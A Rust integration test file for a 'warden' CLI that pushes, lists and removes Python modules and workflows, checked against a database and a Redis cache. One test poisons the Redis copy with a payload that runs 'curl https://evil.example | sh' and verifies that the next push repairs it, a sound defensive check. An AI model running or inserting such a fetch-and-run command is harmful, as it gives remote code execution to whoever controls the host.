//! `warden module push|list|rm` and `warden workflow push DIR`, through the real binary
//! against a test database and Redis prefix: paths relative to the current directory,
//! unchanged files skipped, the Redis cache updated before the command returns, and a
//! Redis copy altered behind the database's back repaired by the next push.

use redis::aio::MultiplexedConnection;
use redis::AsyncCommands;
use warden::content_hash;
use warden_tests::cli::{ok, warden, write};
use warden_tests::db::TestDb;
use warden_tests::redis::TestRedis;

/// A cached module's `(content, hash)`.
async fn cached(conn: &mut MultiplexedConnection, key: &str) -> (String, String) {
    redis::cmd("HMGET")
        .arg(key)
        .arg("content")
        .arg("hash")
        .query_async(conn)
        .await
        .unwrap()
}

#[tokio::test]
async fn module_push_list_rm() {
    let db = TestDb::new().await;
    let redis = TestRedis::new();
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path();
    write(root, "shared/__init__.py", "");
    write(root, "shared/tickets.py", "T = 1\n");
    write(root, "shared/util/text.py", "S = 1\n");
    write(root, "shared/notes.txt", "not code");
    write(root, "shared/bad-name.py", "");

    let out = warden(&db, &redis, root, &["module", "push", "shared"]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let stdout = ok(out);
    assert!(stdout.contains("created   shared/__init__.py"), "{stdout}");
    assert!(stdout.contains("created   shared/util/text.py"), "{stdout}");
    assert!(
        stdout.contains("3 created, 0 updated, 0 unchanged"),
        "{stdout}"
    );
    assert!(
        stderr.contains("skipped") && stderr.contains("bad-name.py"),
        "{stderr}"
    );

    // In Redis already, when the command returns.
    let mut conn = redis.conn().await;
    let k = redis.keys();
    let cached: String = conn
        .hget(k.module("shared/tickets.py"), "content")
        .await
        .unwrap();
    assert_eq!(cached, "T = 1\n");
    let g1: u64 = conn.get(k.module_generation()).await.unwrap();

    write(root, "shared/tickets.py", "T = 2\n");
    let stdout = ok(warden(&db, &redis, root, &["module", "push", "shared"]));
    assert!(stdout.contains("updated   shared/tickets.py"), "{stdout}");
    assert!(
        stdout.contains("0 created, 1 updated, 2 unchanged"),
        "{stdout}"
    );
    let g2: u64 = conn.get(k.module_generation()).await.unwrap();
    assert_ne!(g1, g2);

    let stdout = ok(warden(
        &db,
        &redis,
        root,
        &["module", "push", "--prefix", "lib", "shared/tickets.py"],
    ));
    assert!(
        stdout.contains("created   lib/shared/tickets.py"),
        "{stdout}"
    );

    let listed = ok(warden(&db, &redis, root, &["module", "list"]));
    for p in [
        "lib/shared/tickets.py",
        "shared/__init__.py",
        "shared/tickets.py",
        "shared/util/text.py",
    ] {
        assert!(listed.contains(p), "{p} in {listed}");
    }

    let stdout = ok(warden(&db, &redis, root, &["module", "rm", "shared/util"]));
    assert!(stdout.contains("removed shared/util/text.py"), "{stdout}");
    let listed: bool = conn
        .sismember(k.module_index(), "shared/util/text.py")
        .await
        .unwrap();
    assert!(!listed, "removed from the cache too");

    let out = warden(&db, &redis, root, &["module", "rm", "nothing/here.py"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing/here.py"));

    let out = warden(&db, &redis, root, &["module", "push", "shared/bad-name.py"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("identifier"));
}

#[tokio::test]
async fn push_repairs_a_poisoned_redis_copy_of_an_unchanged_module() {
    let db = TestDb::new().await;
    let redis = TestRedis::new();
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path();
    write(root, "shared/tickets.py", "T = 1\n");
    write(root, "shared/other.py", "O = 1\n");
    ok(warden(&db, &redis, root, &["module", "push", "shared"]));
    let stored: Vec<(String, String)> = warden::testing::module_store::list(&db.store)
        .await
        .unwrap()
        .into_iter()
        .map(|m| (m.path, m.content_hash))
        .collect();
    let tickets_hash = content_hash("T = 1\n");
    assert!(
        stored.contains(&("shared/tickets.py".to_string(), tickets_hash.clone())),
        "{stored:?}"
    );

    let mut conn = redis.conn().await;
    let k = redis.keys();
    let key = k.module("shared/tickets.py");
    let evil = "import os\nos.system('curl https://evil.example | sh')\n";

    // Content and hash both replaced, and the generation bumped so workers load it.
    let _: () = conn
        .hset_multiple(&key, &[("content", evil), ("hash", &content_hash(evil))])
        .await
        .unwrap();
    let poisoned: u64 = conn.incr(k.module_generation(), 1).await.unwrap();
    let stdout = ok(warden(&db, &redis, root, &["module", "push", "shared"]));
    assert!(
        stdout.contains("0 created, 0 updated, 2 unchanged"),
        "{stdout}"
    );
    assert!(
        stdout.contains("repaired the Redis copy of shared/tickets.py"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("repaired the Redis copy of shared/other.py"),
        "only the altered copy: {stdout}"
    );
    assert_eq!(
        cached(&mut conn, &key).await,
        ("T = 1\n".to_string(), tickets_hash.clone())
    );
    let repaired: u64 = conn.get(k.module_generation()).await.unwrap();
    assert!(
        repaired > poisoned,
        "workers reload: {poisoned} -> {repaired}"
    );

    // Only the content replaced, under the right hash: repaired too.
    let _: () = conn.hset(&key, "content", evil).await.unwrap();
    let stdout = ok(warden(
        &db,
        &redis,
        root,
        &["module", "push", "shared/tickets.py"],
    ));
    assert!(
        stdout.contains("repaired the Redis copy of shared/tickets.py"),
        "{stdout}"
    );
    assert_eq!(
        cached(&mut conn, &key).await,
        ("T = 1\n".to_string(), tickets_hash.clone())
    );

    // A copy that agrees is left alone: nothing reported, the generation stays.
    let before: u64 = conn.get(k.module_generation()).await.unwrap();
    let stdout = ok(warden(&db, &redis, root, &["module", "push", "shared"]));
    assert!(!stdout.contains("repaired"), "{stdout}");
    let after: u64 = conn.get(k.module_generation()).await.unwrap();
    assert_eq!(before, after);
}

#[tokio::test]
async fn workflows_can_be_pushed_from_a_directory() {
    let db = TestDb::new().await;
    let redis = TestRedis::new();
    let ws = tempfile::tempdir().unwrap();
    write(
        ws.path(),
        "flows/open_ticket.py",
        "def run():\n    return 1\n",
    );
    write(
        ws.path(),
        "flows/close_ticket.py",
        "def run():\n    return 2\n",
    );
    write(ws.path(), "flows/README.md", "docs");
    let stdout = ok(warden(
        &db,
        &redis,
        ws.path(),
        &["workflow", "push", "flows", "--timeout", "5s"],
    ));
    assert!(stdout.contains("workflow close_ticket created"), "{stdout}");
    assert!(stdout.contains("workflow open_ticket created"), "{stdout}");
    let listed = ok(warden(&db, &redis, ws.path(), &["workflow", "list"]));
    assert!(listed.contains("workflows/open_ticket.py"), "{listed}");
    assert!(listed.contains("5.0s"), "{listed}");
    let out = warden(
        &db,
        &redis,
        ws.path(),
        &["workflow", "push", "flows", "--name", "x"],
    );
    assert!(!out.status.success());
    // A single file still takes --name, and defaults to the file's name.
    let stdout = ok(warden(
        &db,
        &redis,
        ws.path(),
        &[
            "workflow",
            "push",
            "flows/open_ticket.py",
            "--timeout",
            "5s",
        ],
    ));
    assert!(
        stdout.contains("workflow open_ticket unchanged"),
        "{stdout}"
    );
}
